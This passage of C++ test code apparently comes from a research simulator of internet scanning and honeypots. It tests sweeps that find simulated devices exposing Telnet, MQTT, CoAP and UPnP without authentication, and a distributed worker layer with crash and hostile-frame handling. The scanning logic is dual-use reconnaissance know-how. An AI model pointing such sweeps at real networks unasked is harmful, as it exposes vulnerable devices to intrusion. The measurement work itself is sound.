  const auto blocked = [&blocklist](const char* addr) {
    for (const auto& range : blocklist) {
      if (range.contains(*Ipv4Addr::parse(addr))) return true;
    }
    return false;
  };
  EXPECT_TRUE(blocked("10.1.2.3"));
  EXPECT_TRUE(blocked("127.0.0.1"));
  EXPECT_TRUE(blocked("192.168.1.1"));
  EXPECT_TRUE(blocked("224.0.0.1"));
  EXPECT_TRUE(blocked("100.64.0.1"));
  EXPECT_FALSE(blocked("8.8.8.8"));
  EXPECT_FALSE(blocked("44.0.0.1"));
}

TEST_F(ScannerTest, TelnetSweepCoversBothPorts) {
  // A device on the alternate port 2323 (address % 16 == 0).
  devices::Device alt(make_spec(Ipv4Addr(10, 8, 0, 16),
                                proto::Protocol::kTelnet,
                                devices::Misconfig::kTelnetNoAuth));
  alt.attach(fabric_);
  ASSERT_TRUE(alt.tcp().listening(2323));
  sweep(proto::Protocol::kTelnet, *util::Cidr::parse("10.8.0.0/24"));
  const auto records = db_.for_protocol(proto::Protocol::kTelnet);
  ASSERT_EQ(records.size(), 1u);
  EXPECT_EQ(records[0]->port, 2323);
}

TEST_F(ScannerTest, WildHoneypotBannerIsCapturedVerbatim) {
  honeynet::WildHoneypot honeypot(honeynet::honeypot_signatures()[1],  // Cowrie
                                  Ipv4Addr(10, 9, 0, 5));
  honeypot.attach(fabric_);
  sweep(proto::Protocol::kTelnet, *util::Cidr::parse("10.9.0.0/24"));
  const auto records = db_.for_protocol(proto::Protocol::kTelnet);
  ASSERT_EQ(records.size(), 1u);
  // Raw IAC bytes preserved: \xff\xfd\x1f prefix.
  ASSERT_GE(records[0]->banner.size(), 3u);
  EXPECT_EQ(static_cast<std::uint8_t>(records[0]->banner[0]), 0xff);
  EXPECT_EQ(static_cast<std::uint8_t>(records[0]->banner[1]), 0xfd);
  EXPECT_EQ(static_cast<std::uint8_t>(records[0]->banner[2]), 0x1f);
}

TEST_F(ScannerTest, ConcurrentUdpSweepsBindDistinctSourcePorts) {
  // Regression: two concurrent UDP sweeps whose seeds are equal mod 10'000
  // used to bind the same source port — the second bind() silently replaced
  // the first sweep's response handler (losing every CoAP response), and
  // whichever sweep finished first unbound the other's live handler.
  devices::Device coap_device(make_spec(Ipv4Addr(10, 20, 0, 2),
                                        proto::Protocol::kCoap,
                                        devices::Misconfig::kCoapNoAuth));
  devices::DeviceSpec upnp_spec = make_spec(Ipv4Addr(10, 21, 0, 3),
                                            proto::Protocol::kUpnp,
                                            devices::Misconfig::kUpnpReflector);
  upnp_spec.model = devices::models_for(proto::Protocol::kUpnp).front();
  devices::Device upnp_device(std::move(upnp_spec));
  coap_device.attach(fabric_);
  upnp_device.attach(fabric_);

  ScanConfig coap;
  coap.protocol = proto::Protocol::kCoap;
  coap.targets = {*util::Cidr::parse("10.20.0.0/24")};
  coap.seed = 1;
  coap.batch_size = 64;
  ScanConfig upnp = coap;
  upnp.protocol = proto::Protocol::kUpnp;
  upnp.targets = {*util::Cidr::parse("10.21.0.0/24")};
  upnp.seed = 10'001;  // equal mod 10'000: the collision case

  bool done_coap = false, done_upnp = false;
  scanner_.start(coap, [&done_coap] { done_coap = true; });
  scanner_.start(upnp, [&done_upnp] { done_upnp = true; });
  while ((!done_coap || !done_upnp) && sim_.step()) {
  }
  EXPECT_TRUE(done_coap);
  EXPECT_TRUE(done_upnp);

  // Both sweeps collected their own responses.
  ASSERT_EQ(db_.unique_hosts(proto::Protocol::kCoap), 1u);
  ASSERT_EQ(db_.unique_hosts(proto::Protocol::kUpnp), 1u);
  EXPECT_NE(db_.for_protocol(proto::Protocol::kCoap)[0]->banner.find(
                "CoAP Resources"),
            std::string::npos);
  EXPECT_NE(db_.for_protocol(proto::Protocol::kUpnp)[0]->banner.find("USN:"),
            std::string::npos);
}

TEST_F(ScannerTest, SequentialSweepsAccumulateInOneDb) {
  devices::Device telnet_device(make_spec(Ipv4Addr(10, 10, 0, 1),
                                          proto::Protocol::kTelnet,
                                          devices::Misconfig::kTelnetNoAuth));
  devices::Device mqtt_device(make_spec(Ipv4Addr(10, 10, 0, 2),
                                        proto::Protocol::kMqtt,
                                        devices::Misconfig::kMqttNoAuth));
  telnet_device.attach(fabric_);
  mqtt_device.attach(fabric_);
  sweep(proto::Protocol::kTelnet, *util::Cidr::parse("10.10.0.0/24"));
  sweep(proto::Protocol::kMqtt, *util::Cidr::parse("10.10.0.0/24"));
  EXPECT_EQ(db_.unique_hosts(proto::Protocol::kTelnet), 1u);
  EXPECT_EQ(db_.unique_hosts(proto::Protocol::kMqtt), 1u);
  EXPECT_GT(db_.probes_sent(), 0u);
}

}  // namespace
}  // namespace ofh::scanner
