// The fault-tolerant distributed execution layer (dist/coordinator.h,
// dist/worker.h): worker processes served over socketpairs, crash
// recovery via the retry ledger, quarantine of hostile connections,
// idempotent result application, graceful degradation to inline
// execution — and the headline contract, a study whose scan phase ran on
// a worker fleet (with a SIGKILL crash drill mid-sweep) producing reports
// byte-identical to the serial and scan_threads=8 in-process runs.
#include <gtest/gtest.h>

#include <sys/socket.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <csignal>
#include <cstdint>
#include <optional>
#include <sstream>
#include <string>
#include <utility>
#include <vector>

#include "core/reports.h"
#include "core/scan_shard.h"
#include "core/scenario.h"
#include "core/study.h"
#include "dist/coordinator.h"
#include "dist/protocol.h"
#include "dist/worker.h"
#include "net/wire.h"
#include "obs/trace.h"
#include "sim/parallel.h"
#include "util/bytes.h"

// ThreadSanitizer and fork() don't mix (the child inherits locked TSan
// runtime state); the fork-based fleet tests skip themselves there, the
// same policy tools/scenario/scenario_runner.cpp applies to its
// dispatcher. The adopt_worker_fd tests run everywhere — they drive the
// coordinator with prewritten bytes, no second process needed.
#if defined(__SANITIZE_THREAD__)
#define OFH_DIST_NO_FORK 1
#endif
#if defined(__has_feature)
#if __has_feature(thread_sanitizer)
#define OFH_DIST_NO_FORK 1
#endif
#endif

namespace ofh {
namespace {

// ------------------------------------------------------------- fixtures

core::StudyConfig tiny_config() {
  core::StudyConfig config;
  config.seed = 7;
  config.population_scale = 1.0 / 65'536;
  return config;
}

core::ScanShardJob tiny_job(std::uint32_t index) {
  core::ScanShardJob job;
  job.index = index;
  job.protocol = proto::Protocol::kTelnet;
  job.sweep_seed = sim::shard_seed(7, index);
  job.start = sim::hours(index);
  job.sweep_total = 0;
  return job;
}

void expect_results_equal(const core::ScanShardResult& got,
                          const core::ScanShardResult& want,
                          const std::string& context) {
  EXPECT_EQ(got.probes, want.probes) << context;
  EXPECT_EQ(got.responsive, want.responsive) << context;
  EXPECT_EQ(got.refused, want.refused) << context;
  EXPECT_EQ(got.unresolved, want.unresolved) << context;
  EXPECT_EQ(got.retries, want.retries) << context;
  EXPECT_EQ(got.events, want.events) << context;
  EXPECT_EQ(got.finished, want.finished) << context;
  ASSERT_EQ(got.records.size(), want.records.size()) << context;
  for (std::size_t i = 0; i < want.records.size(); ++i) {
    EXPECT_EQ(got.records[i].host.value(), want.records[i].host.value())
        << context << " record " << i;
    EXPECT_EQ(got.records[i].port, want.records[i].port) << context;
    EXPECT_EQ(got.records[i].protocol, want.records[i].protocol) << context;
    EXPECT_EQ(got.records[i].when, want.records[i].when) << context;
    EXPECT_EQ(got.records[i].banner, want.records[i].banner) << context;
  }
}

// Collects the progress sink's deterministic event stream.
struct ProgressLog {
  std::vector<std::pair<std::uint32_t, core::ScanShardProgress>> events;
  core::ScanShardProgressSink sink() {
    return [this](std::uint32_t index, const core::ScanShardProgress& item) {
      events.push_back({index, item});
    };
  }
  std::size_t count(std::uint32_t index,
                    core::ScanShardProgressKind kind) const {
    std::size_t n = 0;
    for (const auto& [i, item] : events) {
      if (i == index && item.kind == kind) ++n;
    }
    return n;
  }
};

// ----------------------------------------------------- socket utilities

void send_body(int fd, const util::Bytes& body) {
  const util::Bytes framed = net::wire_frame(body);
  ASSERT_EQ(::send(fd, framed.data(), framed.size(), MSG_NOSIGNAL),
            static_cast<ssize_t>(framed.size()));
}

// Blocking frame reader over a test-side socket end. Keeps leftover bytes
// across calls, exactly like a real connection buffer.
struct FrameStream {
  int fd = -1;
  util::Bytes buffer;

  std::optional<util::Bytes> next() {
    while (true) {
      const net::FrameView view = net::peek_frame(buffer, dist::kMaxResultBody);
      if (view.status == net::FrameStatus::kFrame) {
        util::Bytes body(view.body.begin(), view.body.end());
        net::consume_frame(buffer, body.size());
        return body;
      }
      if (view.status == net::FrameStatus::kOversized) return std::nullopt;
      std::uint8_t chunk[65536];
      const ssize_t n = ::recv(fd, chunk, sizeof chunk, 0);
      if (n == 0) return std::nullopt;  // EOF
      if (n < 0) {
        if (errno == EINTR) continue;
        return std::nullopt;
      }
      buffer.insert(buffer.end(), chunk, chunk + n);
    }
  }
};

#ifndef OFH_DIST_NO_FORK
// Forks a process serving dist::serve_worker_fd on one end of a fresh
// socketpair; returns the test-side end in fd_out.
pid_t spawn_serve_worker(int* fd_out, const std::string& name) {
  int sv[2] = {-1, -1};
  EXPECT_EQ(::socketpair(AF_UNIX, SOCK_STREAM, 0, sv), 0);
  const pid_t pid = ::fork();
  EXPECT_GE(pid, 0);
  if (pid == 0) {
    ::close(sv[0]);
    ::_exit(dist::serve_worker_fd(sv[1], name));
  }
  ::close(sv[1]);
  *fd_out = sv[0];
  return pid;
}

void expect_exit_code(pid_t pid, int want) {
  int status = 0;
  ASSERT_EQ(::waitpid(pid, &status, 0), pid);
  ASSERT_TRUE(WIFEXITED(status));
  EXPECT_EQ(WEXITSTATUS(status), want);
}
#endif  // OFH_DIST_NO_FORK

// ------------------------------------------------------- worker process

#ifndef OFH_DIST_NO_FORK

TEST(DistWorker, GreetsAnswersHostileFramesWithTypedErrorsAndShutsDown) {
  int fd = -1;
  const pid_t pid = spawn_serve_worker(&fd, "typed-errors");
  FrameStream stream;
  stream.fd = fd;

  const auto hello_body = stream.next();
  ASSERT_TRUE(hello_body.has_value());
  const auto hello = dist::decode_hello(*hello_body);
  ASSERT_TRUE(hello.has_value());
  EXPECT_EQ(hello->version, dist::kDistProtocolVersion);
  EXPECT_EQ(hello->name, "typed-errors");
  EXPECT_EQ(hello->pid, static_cast<std::uint64_t>(pid));

  // Unknown tag: typed error, connection stays up.
  send_body(fd, {0x33});
  auto reply = stream.next();
  ASSERT_TRUE(reply.has_value());
  auto error = net::parse_wire_error(*reply);
  ASSERT_TRUE(error.has_value());
  EXPECT_EQ(error->code, net::WireError::kUnknownTag);

  // A JOB tag with a garbage body: typed kMalformed error, still up.
  send_body(fd, {static_cast<std::uint8_t>(dist::MsgTag::kJob), 0xde, 0xad});
  reply = stream.next();
  ASSERT_TRUE(reply.has_value());
  error = net::parse_wire_error(*reply);
  ASSERT_TRUE(error.has_value());
  EXPECT_EQ(error->code, net::WireError::kMalformed);

  // Orderly shutdown: ack frame, then exit code 0.
  send_body(fd, dist::encode_shutdown());
  reply = stream.next();
  ASSERT_TRUE(reply.has_value());
  ASSERT_EQ(reply->size(), 1u);
  EXPECT_EQ((*reply)[0], static_cast<std::uint8_t>(dist::MsgTag::kShutdown) |
                             net::kWireResponseBit);
  ::close(fd);
  expect_exit_code(pid, 0);
}

TEST(DistWorker, OversizedFrameGetsTypedErrorAndHangup) {
  int fd = -1;
  const pid_t pid = spawn_serve_worker(&fd, "oversized");
  FrameStream stream;
  stream.fd = fd;
  ASSERT_TRUE(stream.next().has_value());  // HELLO

  // A header declaring a body just past the job cap: the worker answers
  // with the typed kOversized error and hangs up — the declared length of
  // a hostile frame can't be trusted enough to resynchronize.
  util::ByteWriter header;
  header.u32(static_cast<std::uint32_t>(dist::kMaxJobBody + 1));
  const util::Bytes bytes = header.take();
  ASSERT_EQ(::send(fd, bytes.data(), bytes.size(), MSG_NOSIGNAL),
            static_cast<ssize_t>(bytes.size()));
  const auto reply = stream.next();
  ASSERT_TRUE(reply.has_value());
  const auto error = net::parse_wire_error(*reply);
  ASSERT_TRUE(error.has_value());
  EXPECT_EQ(error->code, net::WireError::kOversized);
  EXPECT_FALSE(stream.next().has_value());  // EOF
  ::close(fd);
  expect_exit_code(pid, 1);
}

TEST(DistWorker, EofIsAnOrderlyExit) {
  int fd = -1;
  const pid_t pid = spawn_serve_worker(&fd, "eof");
  FrameStream stream;
  stream.fd = fd;
  ASSERT_TRUE(stream.next().has_value());  // HELLO
  ::close(fd);  // coordinator vanishes
  expect_exit_code(pid, 0);
}

TEST(DistWorker, ExecutesJobByteExactlyIncludingShardTrace) {
  const core::StudyConfig config = tiny_config();
  const core::ScanShardJob job = tiny_job(0);
  const core::ScanShardResult reference = run_scan_shard(config, job, {});

  int fd = -1;
  const pid_t pid = spawn_serve_worker(&fd, "exec");
  FrameStream stream;
  stream.fd = fd;
  ASSERT_TRUE(stream.next().has_value());  // HELLO

  dist::JobFrame frame;
  frame.epoch = 1;
  frame.job = job;
  frame.seed = config.seed;
  frame.population_scale = config.population_scale;
  frame.scan_batch = config.scan_batch;
  frame.scan_attempts = config.scan_attempts;
  frame.fault_schedule = config.fault_schedule;
  frame.packet_ring_capacity = obs::TraceRegistry::global().packet_capacity();
  frame.session_ring_capacity = obs::TraceRegistry::global().session_capacity();
  send_body(fd, dist::encode_job(frame));

  // The worker streams heartbeats and strides, then exactly one RESULT.
  std::optional<dist::ResultFrame> result;
  std::uint64_t strides = 0;
  while (!result.has_value()) {
    const auto body = stream.next();
    ASSERT_TRUE(body.has_value()) << "worker hung up before its result";
    ASSERT_FALSE(body->empty());
    const auto tag = static_cast<dist::MsgTag>((*body)[0]);
    if (tag == dist::MsgTag::kHeartbeat) {
      ASSERT_TRUE(dist::decode_heartbeat(*body).has_value());
      continue;
    }
    if (tag == dist::MsgTag::kProgress) {
      const auto progress = dist::decode_progress(*body);
      ASSERT_TRUE(progress.has_value());
      EXPECT_EQ(progress->job_index, 0u);
      EXPECT_EQ(progress->epoch, 1u);
      ++strides;
      continue;
    }
    ASSERT_EQ(tag, dist::MsgTag::kResult);
    result = dist::decode_result(*body);
    ASSERT_TRUE(result.has_value());
  }
  EXPECT_EQ(result->job_index, 0u);
  EXPECT_EQ(result->epoch, 1u);
  expect_results_equal(result->shard, reference, "remote vs inline");
  // The shipped trace belongs entirely to this job's shard, in seq order —
  // the precondition for TraceRegistry::absorb re-recording it exactly.
  std::uint64_t last_seq = 0;
  for (const obs::TraceEvent& event : result->trace_events) {
    EXPECT_EQ(event.shard, 1u);
    EXPECT_GE(event.seq, last_seq);
    last_seq = event.seq;
  }
  EXPECT_GT(result->shard.probes, 0u);
  (void)strides;

  send_body(fd, dist::encode_shutdown());
  ASSERT_TRUE(stream.next().has_value());  // ack
  ::close(fd);
  expect_exit_code(pid, 0);
}

#endif  // OFH_DIST_NO_FORK

// ------------------------------------------- coordinator fault handling

TEST(DistCoordinator, NoFleetConfiguredDegradesInlineByteIdentically) {
  const core::StudyConfig config = tiny_config();
  const std::vector<core::ScanShardJob> jobs = {tiny_job(0), tiny_job(1)};
  std::vector<core::ScanShardResult> refs;
  std::vector<std::size_t> ref_strides;
  for (const auto& job : jobs) {
    std::size_t strides = 0;
    refs.push_back(run_scan_shard(
        config, job, [&](const core::ScanShardProgress& progress) {
          if (progress.kind == core::ScanShardProgressKind::kStride) ++strides;
        }));
    ref_strides.push_back(strides);
  }

  dist::Coordinator coordinator(dist::CoordinatorOptions{});
  ASSERT_TRUE(coordinator.start());
  ProgressLog log;
  const auto results = coordinator.run(config, jobs, log.sink());
  coordinator.shutdown();

  ASSERT_EQ(results.size(), jobs.size());
  EXPECT_EQ(coordinator.inline_runs(), jobs.size());
  EXPECT_TRUE(coordinator.retry_ledger().empty());
  for (std::size_t i = 0; i < jobs.size(); ++i) {
    expect_results_equal(results[i], refs[i], "inline job " + std::to_string(i));
    // The published progress stream matches the in-process sequence: every
    // stride once, one kDone, samples never published as deterministic.
    EXPECT_EQ(log.count(static_cast<std::uint32_t>(i),
                        core::ScanShardProgressKind::kStride),
              ref_strides[i]) << i;
    EXPECT_EQ(log.count(static_cast<std::uint32_t>(i),
                        core::ScanShardProgressKind::kDone),
              1u) << i;
  }
}

TEST(DistCoordinator, HostileFrameQuarantinesAndFallsBackInline) {
  const core::StudyConfig config = tiny_config();
  const std::vector<core::ScanShardJob> jobs = {tiny_job(0)};
  const core::ScanShardResult ref = run_scan_shard(config, jobs[0], {});

  int sv[2] = {-1, -1};
  ASSERT_EQ(::socketpair(AF_UNIX, SOCK_STREAM, 0, sv), 0);
  // An unknown-tag frame waiting in the socket before run() even starts.
  send_body(sv[1], {0x5a, 0x01, 0x02});

  dist::CoordinatorOptions options;
  options.wait_timeout_ms = 200;
  dist::Coordinator coordinator(std::move(options));
  ASSERT_TRUE(coordinator.start());
  coordinator.adopt_worker_fd(sv[0], -1);
  EXPECT_EQ(coordinator.live_workers(), 1u);

  ProgressLog log;
  const auto results = coordinator.run(config, jobs, log.sink());
  coordinator.shutdown();
  ::close(sv[1]);

  EXPECT_EQ(coordinator.live_workers(), 0u);  // quarantined and closed
  EXPECT_EQ(coordinator.inline_runs(), 1u);
  ASSERT_EQ(results.size(), 1u);
  expect_results_equal(results[0], ref, "after quarantine");
  EXPECT_EQ(log.count(0, core::ScanShardProgressKind::kDone), 1u);
}

TEST(DistCoordinator, WellFormedResultWithHostileShardIdIsRejected) {
  const core::StudyConfig config = tiny_config();
  const std::vector<core::ScanShardJob> jobs = {tiny_job(0)};
  const core::ScanShardResult ref = run_scan_shard(config, jobs[0], {});

  // A result that decodes cleanly but claims trace events for shard 9:
  // absorbing it would corrupt another sweep's flight recorder, so the
  // semantic validator must treat it exactly like a torn frame.
  dist::ResultFrame hostile;
  hostile.job_index = 0;
  hostile.epoch = 1;
  hostile.shard.probes = 1;
  obs::TraceEvent event;
  event.shard = 9;
  hostile.trace_events.push_back(event);

  int sv[2] = {-1, -1};
  ASSERT_EQ(::socketpair(AF_UNIX, SOCK_STREAM, 0, sv), 0);
  dist::HelloFrame hello;
  hello.pid = 0;
  hello.name = "hostile";
  send_body(sv[1], dist::encode_hello(hello));
  send_body(sv[1], dist::encode_result(hostile));

  dist::CoordinatorOptions options;
  options.wait_timeout_ms = 200;
  dist::Coordinator coordinator(std::move(options));
  ASSERT_TRUE(coordinator.start());
  coordinator.adopt_worker_fd(sv[0], -1);

  ProgressLog log;
  const auto results = coordinator.run(config, jobs, log.sink());
  coordinator.shutdown();
  ::close(sv[1]);

  EXPECT_EQ(coordinator.live_workers(), 0u);
  EXPECT_EQ(coordinator.inline_runs(), 1u);
  EXPECT_EQ(coordinator.duplicates_dropped(), 0u);
  ASSERT_EQ(results.size(), 1u);
  expect_results_equal(results[0], ref, "hostile result rejected");
}

TEST(DistCoordinator, SilentWorkerTimesOutRequeuesAndRunsInline) {
  const core::StudyConfig config = tiny_config();
  const std::vector<core::ScanShardJob> jobs = {tiny_job(0), tiny_job(1)};

  int sv[2] = {-1, -1};
  ASSERT_EQ(::socketpair(AF_UNIX, SOCK_STREAM, 0, sv), 0);
  dist::HelloFrame hello;
  hello.name = "wedged";
  send_body(sv[1], dist::encode_hello(hello));
  // ...and then nothing: the worker accepts its job and goes silent.

  dist::CoordinatorOptions options;
  options.job_timeout_ms = 100;
  options.wait_timeout_ms = 400;
  options.backoff_base_ms = 1;
  dist::Coordinator coordinator(std::move(options));
  ASSERT_TRUE(coordinator.start());
  coordinator.adopt_worker_fd(sv[0], -1);

  ProgressLog log;
  const auto results = coordinator.run(config, jobs, log.sink());
  coordinator.shutdown();
  ::close(sv[1]);

  ASSERT_EQ(results.size(), 2u);
  EXPECT_EQ(coordinator.inline_runs(), 2u);
  ASSERT_FALSE(coordinator.retry_ledger().empty());
  const dist::RetryLedgerEntry& entry = coordinator.retry_ledger().front();
  EXPECT_EQ(entry.reason, "timeout");
  EXPECT_EQ(entry.job_index, 0u);
  EXPECT_EQ(entry.epoch, 1u);
  EXPECT_EQ(entry.worker, "wedged");
  for (std::size_t i = 0; i < jobs.size(); ++i) {
    expect_results_equal(results[i], run_scan_shard(config, jobs[i], {}),
                         "after timeout " + std::to_string(i));
  }
}

TEST(DistCoordinator, DuplicateResultsAreDroppedAndDoneFiresOnce) {
  const core::StudyConfig config = tiny_config();
  const std::vector<core::ScanShardJob> jobs = {tiny_job(0)};
  const core::ScanShardResult ref = run_scan_shard(config, jobs[0], {});

  dist::ResultFrame frame;
  frame.job_index = 0;
  frame.epoch = 1;
  frame.shard = ref;

  int sv[2] = {-1, -1};
  ASSERT_EQ(::socketpair(AF_UNIX, SOCK_STREAM, 0, sv), 0);
  dist::HelloFrame hello;
  hello.name = "eager";
  send_body(sv[1], dist::encode_hello(hello));
  send_body(sv[1], dist::encode_result(frame));
  send_body(sv[1], dist::encode_result(frame));  // retried attempt's copy

  dist::Coordinator coordinator(dist::CoordinatorOptions{});
  ASSERT_TRUE(coordinator.start());
  coordinator.adopt_worker_fd(sv[0], -1);

  ProgressLog log;
  const auto results = coordinator.run(config, jobs, log.sink());
  coordinator.shutdown();
  ::close(sv[1]);

  EXPECT_EQ(coordinator.duplicates_dropped(), 1u);
  EXPECT_EQ(coordinator.inline_runs(), 0u);
  ASSERT_EQ(results.size(), 1u);
  expect_results_equal(results[0], ref, "applied remote result");
  EXPECT_EQ(log.count(0, core::ScanShardProgressKind::kDone), 1u);
}

TEST(DistCoordinator, ProgressStridesDedupAcrossAttemptsAndSamplesPassThrough) {
  const core::StudyConfig config = tiny_config();
  const std::vector<core::ScanShardJob> jobs = {tiny_job(0)};
  const core::ScanShardResult ref = run_scan_shard(config, jobs[0], {});

  dist::ResultFrame result;
  result.job_index = 0;
  result.epoch = 2;
  result.shard = ref;

  int sv[2] = {-1, -1};
  ASSERT_EQ(::socketpair(AF_UNIX, SOCK_STREAM, 0, sv), 0);
  dist::HelloFrame hello;
  hello.name = "replayer";
  send_body(sv[1], dist::encode_hello(hello));
  // Attempt 1 reached stride 2, crashed; attempt 2 replays strides 1-2
  // (the dedup must swallow them) before advancing to stride 3.
  dist::ProgressFrame stride;
  stride.job_index = 0;
  stride.epoch = 1;
  stride.resolved = core::kSweepProgressStride;
  send_body(sv[1], dist::encode_progress(stride));
  stride.resolved = 2 * core::kSweepProgressStride;
  send_body(sv[1], dist::encode_progress(stride));
  stride.epoch = 2;
  stride.resolved = core::kSweepProgressStride;  // replayed
  send_body(sv[1], dist::encode_progress(stride));
  stride.resolved = 2 * core::kSweepProgressStride;  // replayed
  send_body(sv[1], dist::encode_progress(stride));
  stride.resolved = 3 * core::kSweepProgressStride;  // fresh
  send_body(sv[1], dist::encode_progress(stride));
  dist::HeartbeatFrame beat;
  beat.job_index = 0;
  beat.epoch = 2;
  beat.resolved = 100;
  send_body(sv[1], dist::encode_heartbeat(beat));
  send_body(sv[1], dist::encode_result(result));

  dist::Coordinator coordinator(dist::CoordinatorOptions{});
  ASSERT_TRUE(coordinator.start());
  coordinator.adopt_worker_fd(sv[0], -1);

  ProgressLog log;
  const auto results = coordinator.run(config, jobs, log.sink());
  coordinator.shutdown();
  ::close(sv[1]);

  ASSERT_EQ(results.size(), 1u);
  EXPECT_EQ(log.count(0, core::ScanShardProgressKind::kStride), 3u);
  EXPECT_GE(log.count(0, core::ScanShardProgressKind::kSample), 1u);
  EXPECT_EQ(log.count(0, core::ScanShardProgressKind::kDone), 1u);
}

#ifndef OFH_DIST_NO_FORK

TEST(DistCoordinator, ForkedFleetExecutesBatchWithoutRetries) {
  const core::StudyConfig config = tiny_config();
  const std::vector<core::ScanShardJob> jobs = {tiny_job(0), tiny_job(1),
                                                tiny_job(2)};
  dist::CoordinatorOptions options;
  options.fork_workers = 2;
  options.wait_workers = 2;
  dist::Coordinator coordinator(std::move(options));
  ASSERT_TRUE(coordinator.start()) << coordinator.error();

  ProgressLog log;
  const auto results = coordinator.run(config, jobs, log.sink());
  coordinator.shutdown();

  ASSERT_EQ(results.size(), jobs.size());
  EXPECT_EQ(coordinator.inline_runs(), 0u);
  EXPECT_TRUE(coordinator.retry_ledger().empty());
  for (std::size_t i = 0; i < jobs.size(); ++i) {
    expect_results_equal(results[i], run_scan_shard(config, jobs[i], {}),
                         "fleet job " + std::to_string(i));
    EXPECT_EQ(log.count(static_cast<std::uint32_t>(i),
                        core::ScanShardProgressKind::kDone),
              1u) << i;
  }
}

TEST(DistCoordinator, SigkilledWorkerIsRequeuedByteIdentically) {
  const core::StudyConfig config = tiny_config();
  const std::vector<core::ScanShardJob> jobs = {tiny_job(0), tiny_job(1),
                                                tiny_job(2)};
  std::vector<core::ScanShardResult> refs;
  std::vector<std::size_t> ref_strides;
  for (const auto& job : jobs) {
    std::size_t strides = 0;
    refs.push_back(run_scan_shard(
        config, job, [&](const core::ScanShardProgress& progress) {
          if (progress.kind == core::ScanShardProgressKind::kStride) ++strides;
        }));
    ref_strides.push_back(strides);
  }

  dist::CoordinatorOptions options;
  options.fork_workers = 3;
  options.wait_workers = 3;
  options.kill_worker_after_progress = true;  // SIGKILL mid-job
  dist::Coordinator coordinator(std::move(options));
  ASSERT_TRUE(coordinator.start()) << coordinator.error();

  ProgressLog log;
  const auto results = coordinator.run(config, jobs, log.sink());
  coordinator.shutdown();

  ASSERT_EQ(results.size(), jobs.size());
  // The drill killed a worker that had already reported progress, so its
  // job crossed the crash-recovery path: requeued with a worker-eof ledger
  // entry, re-executed, merged as if nothing happened.
  ASSERT_FALSE(coordinator.retry_ledger().empty());
  bool saw_eof = false;
  for (const dist::RetryLedgerEntry& entry : coordinator.retry_ledger()) {
    if (entry.reason == "worker-eof") saw_eof = true;
  }
  EXPECT_TRUE(saw_eof);
  for (std::size_t i = 0; i < jobs.size(); ++i) {
    expect_results_equal(results[i], refs[i],
                         "post-crash job " + std::to_string(i));
    EXPECT_EQ(log.count(static_cast<std::uint32_t>(i),
                        core::ScanShardProgressKind::kStride),
              ref_strides[i]) << i;
    EXPECT_EQ(log.count(static_cast<std::uint32_t>(i),
                        core::ScanShardProgressKind::kDone),
              1u) << i;
  }
}

#endif  // OFH_DIST_NO_FORK

// ------------------------------------------------- study-level contract

std::string serialize(const scanner::ScanDb& db) {
  std::ostringstream out;
  for (const auto& record : db.records()) {
    out << record.host.value() << '|' << record.port << '|'
        << static_cast<int>(record.protocol) << '|' << record.when << '|'
        << record.banner << '\n';
  }
  out << "probes=" << db.probes_sent();
  return out.str();
}

core::StudyConfig study_config() {
  core::StudyConfig config;
  config.seed = 2021;
  config.population_scale = 1.0 / 16'384;
  config.scan_threads = 1;
  return config;
}

// Clears the process-wide dispatcher on scope exit so a failing test can't
// leak its execution backend into unrelated tests.
struct DispatcherGuard {
  ~DispatcherGuard() { core::set_scan_shard_dispatcher({}); }
};

TEST(DistStudy, DispatcherDeclineAndAbsenceDegradeByteIdentically) {
  DispatcherGuard guard;
  core::set_scan_shard_dispatcher({});
  core::Study serial(study_config());
  serial.setup_internet();
  serial.run_scan();
  const std::string reference = serialize(serial.scan_db());
  ASSERT_GT(serial.scan_db().size(), 0u);

  // A dispatcher that declines every batch: Study must fall back to the
  // in-process ParallelRunner path and produce identical bytes.
  int offered = 0;
  core::set_scan_shard_dispatcher(
      [&offered](const core::StudyConfig&,
                 const std::vector<core::ScanShardJob>&,
                 const core::ScanShardProgressSink&)
          -> std::optional<std::vector<core::ScanShardResult>> {
        ++offered;
        return std::nullopt;
      });
  core::StudyConfig declined = study_config();
  declined.scan_workers = 2;
  core::Study fallback(declined);
  fallback.setup_internet();
  fallback.run_scan();
  EXPECT_GE(offered, 1);
  EXPECT_EQ(serialize(fallback.scan_db()), reference);

  // scan_workers > 0 with no dispatcher installed at all: same path.
  core::set_scan_shard_dispatcher({});
  core::Study undispatched(declined);
  undispatched.setup_internet();
  undispatched.run_scan();
  EXPECT_EQ(serialize(undispatched.scan_db()), reference);
}

#ifndef OFH_DIST_NO_FORK

TEST(DistStudy, DistributedScanWithCrashDrillIsByteIdenticalToSerial) {
  DispatcherGuard guard;
  core::set_scan_shard_dispatcher({});
  core::Study serial(study_config());
  serial.setup_internet();
  serial.run_scan();
  serial.run_datasets();
  const std::string reference = serialize(serial.scan_db());
  const std::string table4 = core::report_table4_exposed(serial);
  const std::string table5 = core::report_table5_misconfigured(serial);
  // Snapshot the observability exports NOW: constructing the next Study
  // resets the process-wide registries (metrics and traces).
  const std::string metrics_prometheus = serial.metrics_prometheus();
  const std::string metrics_csv = serial.metrics_csv();
  const std::string trace_json = serial.trace_json();
  const std::string attack_chains = serial.attack_chains();
  ASSERT_GT(serial.scan_db().size(), 0u);

  // In-process 8-thread run: the established baseline the distributed
  // backend must also match (three-way byte identity).
  core::StudyConfig threaded_config = study_config();
  threaded_config.scan_threads = 8;
  core::Study threaded(threaded_config);
  threaded.setup_internet();
  threaded.run_scan();
  threaded.run_datasets();
  EXPECT_EQ(serialize(threaded.scan_db()), reference);

  // Distributed run: 3 forked workers, one SIGKILLed mid-sweep by the
  // crash drill. The scan DB, both report tables, the merged causal trace
  // and the metric exports must all come out byte-identical anyway.
  std::vector<dist::RetryLedgerEntry> ledger;
  std::uint64_t inline_runs = 0;
  core::set_scan_shard_dispatcher(
      [&ledger, &inline_runs](const core::StudyConfig& config,
                              const std::vector<core::ScanShardJob>& jobs,
                              const core::ScanShardProgressSink& sink)
          -> std::optional<std::vector<core::ScanShardResult>> {
        dist::CoordinatorOptions options;
        options.fork_workers = 3;
        options.wait_workers = 3;
        options.kill_worker_after_progress = true;
        dist::Coordinator coordinator(std::move(options));
        if (!coordinator.start()) return std::nullopt;
        auto results = coordinator.run(config, jobs, sink);
        for (const auto& entry : coordinator.retry_ledger()) {
          ledger.push_back(entry);
        }
        inline_runs += coordinator.inline_runs();
        coordinator.shutdown();
        return results;
      });
  core::StudyConfig dist_config = study_config();
  dist_config.scan_workers = 3;
